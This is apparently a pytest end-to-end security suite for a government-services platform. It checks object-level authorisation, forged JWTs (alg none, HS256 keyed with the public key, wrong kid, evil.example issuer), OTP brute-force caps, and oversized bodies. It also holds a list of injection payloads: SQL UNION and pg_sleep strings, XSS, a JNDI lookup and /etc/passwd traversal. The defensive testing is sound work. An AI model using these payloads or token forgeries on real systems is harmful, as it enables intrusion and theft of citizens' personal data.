"""The platform as an attacker sees it: through the gateway, and straight at a service's port.

- object-level authorisation (BOLA): every ``{tracking_code}``, ``{document_id}``,
  ``{inquiry_id}`` and draft ``{code}`` route, read and write, by two citizens, officers of two
  agencies, two agencies' systems, two agency admins and nobody: no one reaches another's object;
- forged and misused access tokens (``alg: none``, HS256 keyed with the public key, a key
  nobody published, a wrong ``kid``, expired, another audience or issuer, a changed payload),
  at the gateway and directly at the requests service;
- OTP brute force: five wrong codes kill the challenge, the day's failure cap trips;
- injection strings in search and in inputs, oversized bodies;
- the merged OpenAPI document, fuzzed with a bounded number of examples per operation:
  no server error, and every answer matches its documented schema.
"""

from __future__ import annotations

import asyncio
import base64
import hashlib
import hmac
import json
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import decode_dss_signature

from panjereh.common.jwk import (
    PrivateKey,
    b64url,
    generate_private_key,
    load_private_key,
    public_key_from_jwk,
)
from panjereh.devstack.testing import Launch, RunningStack
from tests.e2e.platform_api import (
    BIRTH_REGISTRATION,
    CIVIL_REGISTRY_ADMIN,
    CIVIL_REGISTRY_OFFICER,
    COPY_OF_BIRTH_CERTIFICATE,
    TAX_OFFICER,
    People,
    Person,
    ask_otp,
    client_token,
    login,
    polite,
    read_sms,
    submit,
    until_logins_work,
    wait_for,
)

pytestmark = pytest.mark.e2e

TAX_ADMIN = "2030030031"
DRAFT_CARD = "11010000098"  # drafted by the civil registry's admin, never submitted


@dataclass(frozen=True)
class Cast:
    owner: Person
    other_citizen: Person
    officer: Person  # of the civil registry: the agency of the owner's cards
    other_officer: Person  # of the tax administration
    admin: Person  # the civil registry's agency admin
    other_admin: Person  # the tax administration's
    agency_system: dict[str, str]  # client:civil-registry
    other_agency_system: dict[str, str]  # client:tax


@dataclass(frozen=True)
class Objects:
    smart: str  # the owner's approved request (document issued)
    in_review: str  # the owner's agency-mode request, waiting for an officer
    document_id: str
    inquiry_id: str  # asked by client:civil-registry about the owner


@pytest.fixture(scope="module")
def gateway_client(platform: RunningStack, people: People) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=platform.gateway, timeout=15.0) as client:
        until_logins_work(client, people)
        yield client


@pytest.fixture(scope="module")
def people() -> People:
    return People("2740", "093674")


@pytest.fixture(scope="module")
def cast(gateway_client: httpx.Client, people: People) -> Cast:
    gateway = gateway_client
    return Cast(
        owner=login(gateway, people.national_code(), people.mobile()),
        other_citizen=login(gateway, people.national_code(), people.mobile()),
        officer=login(gateway, CIVIL_REGISTRY_OFFICER, people.mobile()),
        other_officer=login(gateway, TAX_OFFICER, people.mobile()),
        admin=login(gateway, CIVIL_REGISTRY_ADMIN, people.mobile()),
        other_admin=login(gateway, TAX_ADMIN, people.mobile()),
        agency_system=client_token(gateway, "agency-civil-registry"),
        other_agency_system=client_token(gateway, "agency-tax"),
    )


@pytest.fixture(scope="module")
def objects(gateway_client: httpx.Client, cast: Cast) -> Objects:
    gateway = gateway_client
    smart = submit(gateway, cast.owner, COPY_OF_BIRTH_CERTIFICATE)
    in_review = submit(gateway, cast.owner, BIRTH_REGISTRATION)
    assert wait_for(gateway, cast.owner, smart)["status"] == "approved"
    wait_for(gateway, cast.owner, in_review, {"in_review"})
    document = gateway.get(f"/api/v1/requests/{smart}/document", headers=cast.owner.headers)
    inquiry = gateway.post(
        "/api/v1/inquiries",
        json={
            "type": "civil-registry.person",
            "subject": cast.owner.national_code,
            "params": {},
            "purpose": {
                "service_code": BIRTH_REGISTRATION,
                "tracking_code": in_review,
                "legal_basis": "قانون ثبت احوال",
            },
        },
        headers=cast.agency_system,
    )
    assert inquiry.status_code in {200, 202}, inquiry.text
    base = gateway.get(f"/api/v1/catalog/services/{COPY_OF_BIRTH_CERTIFICATE}").json()
    read_only = {"version", "status", "approved_by", "approving_organisation", "approved_at"}
    draft = {k: v for k, v in base.items() if k not in read_only} | {"code": DRAFT_CARD}
    created = gateway.post("/api/v1/catalog/services", json=draft, headers=cast.admin.headers)
    assert created.status_code == 201, created.text
    return Objects(smart, in_review, document.json()["document_id"], inquiry.json()["inquiry_id"])


# ------------------------------------------------------------------------------------ BOLA
@dataclass(frozen=True)
class Probe:
    method: str
    path: str
    body: dict[str, Any] | None = None


def probes(objects: Objects) -> dict[str, Probe]:
    """Every route that names one object, with a body a legitimate caller could send."""
    smart, review = objects.smart, objects.in_review
    decision = {"outcome": "approve", "reason": {"fa": "تأیید", "en": "Approved"}}
    return {
        "request": Probe("GET", f"/api/v1/requests/{smart}"),
        "request-in-review": Probe("GET", f"/api/v1/requests/{review}"),
        "document": Probe("GET", f"/api/v1/requests/{smart}/document"),
        "receipt": Probe("GET", f"/api/v1/requests/{smart}/receipt"),
        "replay": Probe("POST", f"/api/v1/requests/{smart}/receipt/replay"),
        "cancel": Probe("POST", f"/api/v1/requests/{review}/cancel"),
        "decide": Probe("POST", f"/api/v1/agency/requests/{review}/decision", decision),
        "inquiry": Probe("GET", f"/api/v1/inquiries/{objects.inquiry_id}"),
        "draft": Probe("GET", f"/api/v1/catalog/services/{DRAFT_CARD}/draft"),
        "draft-transitions": Probe("GET", f"/api/v1/catalog/services/{DRAFT_CARD}/transitions"),
    }


#: who may reach what (anyone else must be refused: 401, 403 or 404, and learn nothing)
ALLOWED: dict[str, set[str]] = {
    "owner": {"request", "request-in-review", "document", "receipt", "replay"},
    "officer": {"request", "request-in-review", "receipt", "replay"},
    # the agency's back-office system works its agency's requests as its officers do
    "agency_system": {"request", "request-in-review", "receipt", "replay", "inquiry"},
    "admin": {"draft", "draft-transitions"},
}
#: writes nobody in this matrix may do (the owner's cancel and the officer's decision are
#: legitimate, so they are left out here: the journeys do them)
NOT_PROBED = {("owner", "cancel"), ("officer", "decide"), ("agency_system", "decide")}


class TestObjectLevelAuthorisation:
    def test_no_one_reaches_another_ones_objects(
        self, gateway_client: httpx.Client, cast: Cast, objects: Objects
    ) -> None:
        callers: dict[str, dict[str, str]] = {
            "owner": cast.owner.headers,
            "other_citizen": cast.other_citizen.headers,
            "officer": cast.officer.headers,
            "other_officer": cast.other_officer.headers,
            "admin": cast.admin.headers,
            "other_admin": cast.other_admin.headers,
            "agency_system": cast.agency_system,
            "other_agency_system": cast.other_agency_system,
            "nobody": {},
        }
        secrets = [cast.owner.national_code, cast.owner.mobile]
        leaks: list[str] = []
        checked = 0
        for caller, headers in callers.items():
            for name, probe in probes(objects).items():
                if (caller, name) in NOT_PROBED:
                    continue
                response = polite(
                    gateway_client, probe.method, probe.path, json=probe.body, headers=headers
                )
                checked += 1
                allowed = name in ALLOWED.get(caller, set())
                if allowed:
                    assert response.status_code == 200, (caller, name, response.text)
                    continue
                if response.status_code not in {401, 403, 404}:
                    leaks.append(f"{caller} {probe.method} {probe.path}: {response.status_code}")
                if any(secret in response.text for secret in secrets):
                    leaks.append(f"{caller} {probe.method} {probe.path}: personal data")
        assert leaks == [], "\n".join(leaks)
        assert checked >= 80
        # the writes refused did nothing
        review = wait_for(gateway_client, cast.owner, objects.in_review, {"in_review"}, within=2)
        assert review["decision"] is None

    def test_lists_and_trackers_show_only_ones_own(
        self, gateway_client: httpx.Client, cast: Cast, objects: Objects
    ) -> None:
        gateway = gateway_client
        theirs = gateway.get("/api/v1/requests", headers=cast.other_citizen.headers).json()
        assert {objects.smart, objects.in_review}.isdisjoint(
            item["tracking_code"] for item in theirs["items"]
        )
        queue = gateway.get(
            "/api/v1/agency/requests", params={"page_size": 100}, headers=cast.other_officer.headers
        ).json()
        assert objects.in_review not in {item["tracking_code"] for item in queue["items"]}
        tracker = gateway.get("/api/v1/me/data-access", headers=cast.other_citizen.headers).json()
        purposes = {entry["purpose"]["tracking_code"] for entry in tracker["items"]}
        assert {objects.smart, objects.in_review}.isdisjoint(purposes)
        # the public verification of a document names no one
        verified = gateway.get(f"/api/v1/verify/{objects.document_id}").json()
        assert verified["valid"] is True
        assert cast.owner.national_code not in json.dumps(verified)
        # a tracking code guessed next to a real one is simply not found
        guessed = objects.smart[:-2] + f"{(int(objects.smart[-2:]) + 1) % 100:02d}"
        missing = gateway.get(f"/api/v1/requests/{guessed}", headers=cast.other_citizen.headers)
        assert missing.status_code in {404, 422}


# ------------------------------------------------------------------------------------- JWT
def _segment(value: dict[str, Any]) -> str:
    return b64url(json.dumps(value, separators=(",", ":")).encode())


def _claims(token: str) -> dict[str, Any]:
    part = token.split(".")[1]
    claims: dict[str, Any] = json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))
    return claims


def es256(key: PrivateKey, header: dict[str, Any], claims: dict[str, Any]) -> str:
    signing_input = f"{_segment(header)}.{_segment(claims)}"
    r, s = decode_dss_signature(key.sign(signing_input.encode(), ec.ECDSA(hashes.SHA256())))
    return f"{signing_input}.{b64url(r.to_bytes(32, 'big') + s.to_bytes(32, 'big'))}"


def identity_signing_key(platform: RunningStack) -> PrivateKey:
    """Identity's current signing key, read as identity reads it (dev keys live encrypted in
    its database): only to sign tokens whose *claims* are wrong, so that the claim checks are
    what is tested, not the signature check."""
    from panjereh.common.db import Database  # noqa: PLC0415
    from panjereh.identity.config import Settings  # noqa: PLC0415
    from panjereh.identity.keys import DatabaseKeySource  # noqa: PLC0415

    env = Launch.of(platform.pid("identity")).env
    with pytest.MonkeyPatch.context() as patch:
        for name, value in env.items():
            if name.startswith("PANJEREH_"):
                patch.setenv(name, value)
        settings = Settings()

    async def load() -> str:
        database = Database(settings.database_url, pool_size=1)
        try:
            return (await DatabaseKeySource(database, settings).keyset()).current.pem
        finally:
            await database.dispose()

    return load_private_key(asyncio.run(load()))


@pytest.fixture(scope="module")
def forged_tokens(
    platform: RunningStack, gateway_client: httpx.Client, cast: Cast
) -> dict[str, str]:
    real = cast.other_citizen.bearer()
    header = json.loads(base64.urlsafe_b64decode(real.split(".")[0] + "=="))
    claims = _claims(real)
    jwks = gateway_client.get("/.well-known/jwks.json").json()
    published = next(k for k in jwks["keys"] if k["kid"] == header["kid"])
    public_pem = public_key_from_jwk(published).public_bytes(
        encoding=serialization.Encoding.PEM,
        format=serialization.PublicFormat.SubjectPublicKeyInfo,
    )
    stranger_key = generate_private_key()
    real_key = identity_signing_key(platform)
    now = int(time.time())
    owner = claims | {"sub": _claims(cast.owner.bearer())["sub"]}
    hs_input = f"{_segment(header | {'alg': 'HS256'})}.{_segment(owner)}"
    hs_signature = hmac.new(public_pem, hs_input.encode(), hashlib.sha256).digest()
    tampered_payload = _segment(owner)
    return {
        "alg none": f"{_segment(header | {'alg': 'none'})}.{_segment(owner)}.",
        "HS256 keyed with the public key": f"{hs_input}.{b64url(hs_signature)}",
        "an unpublished key, the real kid": es256(stranger_key, header, owner),
        "an unknown kid": es256(real_key, header | {"kid": "not-a-published-key"}, owner),
        "no kid": es256(real_key, {"alg": "ES256", "typ": header.get("typ", "JWT")}, owner),
        "expired": es256(real_key, header, claims | {"iat": now - 7200, "exp": now - 3600}),
        "another audience": es256(real_key, header, claims | {"aud": "another-platform"}),
        "another issuer": es256(real_key, header, claims | {"iss": "https://evil.example"}),
        "payload changed after signing": ".".join(
            [real.split(".")[0], tampered_payload, real.split(".")[2]]
        ),
        "not a token": "a.b.c",
    }


class TestForgedTokens:
    def test_the_genuine_token_works_so_the_refusals_below_mean_something(
        self, platform: RunningStack, gateway_client: httpx.Client, cast: Cast
    ) -> None:
        headers = {"Authorization": f"Bearer {cast.other_citizen.bearer()}"}
        assert gateway_client.get("/api/v1/requests", headers=headers).status_code == 200
        service = platform.gateway.rsplit(":", 1)
        direct = f"{service[0]}:{int(service[1]) + 3}"  # the requests service's own port
        assert httpx.get(f"{direct}/api/v1/requests", headers=headers).status_code == 200

    @pytest.mark.parametrize("where", ["gateway", "requests service directly"])
    def test_every_forgery_is_refused(
        self,
        platform: RunningStack,
        forged_tokens: dict[str, str],
        objects: Objects,
        where: str,
    ) -> None:
        base = platform.gateway
        if where != "gateway":
            host, port = platform.gateway.rsplit(":", 1)
            base = f"{host}:{int(port) + 3}"
        accepted = {}
        with httpx.Client(base_url=base, timeout=10.0) as client:
            for name, token in forged_tokens.items():
                headers = {"Authorization": f"Bearer {token}"}
                # the owner's request, named by a token claiming the owner's subject
                response = client.get(f"/api/v1/requests/{objects.smart}", headers=headers)
                listing = client.get("/api/v1/requests", headers=headers)
                if response.status_code != 401 or listing.status_code != 401:
                    accepted[name] = (response.status_code, listing.status_code)
                    continue
                assert response.headers["content-type"] == "application/problem+json"
                assert response.json()["code"] in {
                    "token_invalid",
                    "token_expired",
                    "token_missing",
                }, (name, response.text)
                assert response.headers.get("www-authenticate", "").startswith("Bearer")
        assert accepted == {}


# ------------------------------------------------------------------------- OTP brute force
class TestOtpBruteForce:
    def test_five_wrong_codes_kill_the_challenge_and_the_daily_cap_trips(
        self, gateway_client: httpx.Client, people: People
    ) -> None:
        gateway = gateway_client
        victim = people.national_code()
        mobile = people.mobile()
        challenge = ask_otp(gateway, victim, mobile)
        assert challenge.status_code == 202, challenge.text
        challenge_id = challenge.json()["challenge_id"]
        right = str(read_sms(gateway, mobile)[0]["tokens"][0])
        wrong = f"{(int(right) + 1) % 1_000_000:06d}"
        answers = [
            gateway.post(
                "/api/v1/auth/otp/verify", json={"challenge_id": challenge_id, "code": wrong}
            )
            for _ in range(5)
        ]
        assert [a.status_code for a in answers] == [400] * 5, [a.text for a in answers]
        assert {a.json()["code"] for a in answers} == {"otp_invalid"}
        # the right code is no use any more: the challenge is dead
        late = gateway.post(
            "/api/v1/auth/otp/verify", json={"challenge_id": challenge_id, "code": right}
        )
        assert late.status_code == 410, late.text
        assert late.json()["code"] == "otp_attempts_exhausted"
        # asking again at once for the same mobile: the resend cooldown
        again = ask_otp(gateway, victim, mobile)
        assert again.status_code == 429
        assert again.headers["retry-after"]

        # three more challenges (other mobiles of the same person: the registry gives every
        # mobile to everyone) spent on wrong codes reach the day's 20 failures per person
        for _ in range(3):
            other = people.mobile()
            spent = ask_otp(gateway, victim, other)
            assert spent.status_code == 202, spent.text
            for _ in range(5):
                gateway.post(
                    "/api/v1/auth/otp/verify",
                    json={"challenge_id": spent.json()["challenge_id"], "code": wrong},
                )
        capped = ask_otp(gateway, victim, people.mobile())
        assert capped.status_code == 429, capped.text
        assert capped.json()["code"] == "otp_rate_limited"

    def test_a_guessed_challenge_id_is_not_found(self, gateway_client: httpx.Client) -> None:
        response = gateway_client.post(
            "/api/v1/auth/otp/verify", json={"challenge_id": str(uuid.uuid4()), "code": "123456"}
        )
        assert response.status_code in {404, 410}
        assert response.json()["code"] in {"otp_challenge_not_found", "otp_expired"}


# --------------------------------------------------------------------- injection, big bodies
INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE service_card; --",
    '" OR ""="',
    "1) UNION SELECT national_code FROM citizen --",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "../../../../etc/passwd",
    "%' AND pg_sleep(5) --",
    "\\x00\\u0000",
    "ی' || (SELECT string_agg(mobile, ',') FROM citizen) || '",
    "*" * 300,
    "&&&|||!!!:*",
]


class TestInjection:
    def test_search_takes_any_text_as_words(self, gateway_client: httpx.Client) -> None:
        for text in INJECTIONS:
            began = time.monotonic()
            response = gateway_client.get("/api/v1/catalog/services", params={"q": text})
            assert response.status_code in {200, 422}, (text, response.text)
            assert time.monotonic() - began < 3, f"{text!r} took too long (sleep injected?)"
            if response.status_code == 200:
                assert "<script>" not in json.dumps(response.json()["facets"])
        # the catalog is still whole
        assert gateway_client.get("/api/v1/catalog/stats").json()["services_total"] >= 45

    def test_inputs_and_identifiers_refuse_or_store_as_text(
        self, gateway_client: httpx.Client, cast: Cast
    ) -> None:
        gateway = gateway_client
        for text in INJECTIONS:
            for path in (f"/api/v1/requests/{text}", f"/api/v1/verify/{text}"):
                response = gateway.get(path, headers=cast.other_citizen.headers)
                assert response.status_code in {400, 404, 422}, (path, response.text)
            created = polite(
                gateway,
                "POST",
                "/api/v1/requests",
                json={"service_code": text, "inputs": {"note": text}},
                headers=cast.other_citizen.headers,
            )
            assert created.status_code in {404, 422}, (text, created.text)
            otp = polite(
                gateway, "POST", "/api/v1/auth/otp", json={"national_code": text, "mobile": text}
            )
            assert otp.status_code == 422, otp.text
            assert otp.json()["code"] == "validation_failed"
        # a NUL character anywhere is refused before it reaches a database
        nul = polite(
            gateway,
            "POST",
            "/api/v1/requests",
            json={"service_code": COPY_OF_BIRTH_CERTIFICATE, "inputs": {"note": "a\u0000b"}},
            headers=cast.other_citizen.headers,
        )
        assert nul.status_code == 422
        assert nul.json()["errors"][0]["code"] == "text_not_storable"


class TestOversizedBodies:
    @pytest.mark.parametrize("chunked", [False, True], ids=["content-length", "chunked"])
    def test_a_body_over_a_mebibyte_is_refused_with_413(
        self, gateway_client: httpx.Client, cast: Cast, chunked: bool
    ) -> None:
        big = json.dumps(
            {"service_code": COPY_OF_BIRTH_CERTIFICATE, "inputs": {"x": "a" * (1 << 20)}}
        ).encode()

        def stream() -> Iterator[bytes]:
            for start in range(0, len(big), 64 * 1024):
                yield big[start : start + 64 * 1024]

        for _ in range(20):  # a fresh body each time the gateway's rate limit answers first
            response = gateway_client.post(
                "/api/v1/requests",
                content=stream() if chunked else big,
                headers={**cast.other_citizen.headers, "Content-Type": "application/json"},
            )
            if response.status_code != 429:
                break
            time.sleep(float(response.headers.get("Retry-After") or 0.5))
        assert response.status_code == 413, response.text[:300]
        assert response.json()["code"] == "payload_too_large"

    def test_a_body_just_under_the_limit_is_read(
        self, gateway_client: httpx.Client, cast: Cast
    ) -> None:
        body = json.dumps({"national_code": "1" * 900_000, "mobile": "0912"}).encode()
        response = gateway_client.post(
            "/api/v1/auth/otp", content=body, headers={"Content-Type": "application/json"}
        )
        assert response.status_code == 422  # read, and refused on its content


# ------------------------------------------------------------------------------ schemathesis
#: examples per operation: enough to reach every operation's edges, bounded for the suite time
EXAMPLES_PER_OPERATION = 3
#: operations whose side effects would spoil the run for others (logging out the token used)
NOT_FUZZED = {("POST", "/api/v1/auth/logout")}


class TestMergedOpenApi:
    def test_fuzzed_operations_never_fail_on_the_server_and_answer_as_documented(
        self, platform: RunningStack, gateway_client: httpx.Client, people: People
    ) -> None:
        import schemathesis  # noqa: PLC0415 - heavy, this test only
        from hypothesis import HealthCheck, Phase, given, settings  # noqa: PLC0415
        from schemathesis.checks import not_a_server_error  # noqa: PLC0415
        from schemathesis.specs.openapi.checks import (  # noqa: PLC0415
            response_schema_conformance,
        )

        document = gateway_client.get("/openapi.json").json()
        schema = schemathesis.openapi.from_dict(document)
        fuzzer = login(gateway_client, people.national_code(), people.mobile())
        calls = 0
        failures: dict[str, str] = {}
        operations = 0
        for result in schema.get_all_operations():
            operation = result.ok()
            if (operation.method.upper(), operation.path) in NOT_FUZZED:
                continue
            operations += 1

            @given(case=operation.as_strategy())
            @settings(
                max_examples=EXAMPLES_PER_OPERATION,
                deadline=None,
                database=None,
                derandomize=True,
                phases=[Phase.explicit, Phase.generate],
                suppress_health_check=list(HealthCheck),
            )
            def exercise(case: Any) -> None:
                nonlocal calls
                response = case.call(base_url=platform.gateway, headers=fuzzer.headers)
                calls += 1
                if response.status_code == 429:  # the gateway's limit: not the operation's answer
                    time.sleep(min(float((response.headers.get("retry-after") or ["1"])[0]), 5))
                    return
                case.validate_response(
                    response, checks=[not_a_server_error, response_schema_conformance]
                )

            try:
                exercise()
            except Exception as exc:  # collected per operation, shown together
                failures[f"{operation.method.upper()} {operation.path}"] = str(exc)[:1500]
        print(f"\nschemathesis: {calls} calls over {operations} operations")
        assert operations >= 40
        assert failures == {}, "\n\n".join(f"{k}\n{v}" for k, v in failures.items())
